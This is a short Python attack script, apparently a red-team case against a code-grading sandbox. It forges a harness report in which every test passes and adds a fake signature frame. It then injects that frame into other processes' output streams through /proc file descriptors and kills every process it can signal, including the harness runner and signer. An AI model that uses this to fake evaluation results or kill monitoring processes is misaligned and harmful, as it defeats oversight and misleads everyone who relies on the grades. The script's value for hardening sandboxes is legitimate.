# target: stdin
# attack: write a complete, plausible harness report into the sandbox's output stream through another
# process's descriptors (/proc/<pid>/fd/1 of every process we can open), then kill the harness so that
# the forged report is the last thing on the stream
import json
import os
import signal
report = json.dumps({"tests": [{"status": "ok", "stdout": "0\n", "elapsed": 0.0, "exit_code": 0}] * 3}).encode()
frame = report + b"\nRESTEM-APPS-MAC " + str(len(report)).encode() + b" " + b"0" * 64 + b"\n"
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for fd in (1, 2):
            try:
                out = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
                os.write(out, frame)
                os.close(out)
            except OSError:
                pass
os.kill(-1, signal.SIGKILL)  # every process we may signal: the harness's runner and signer included
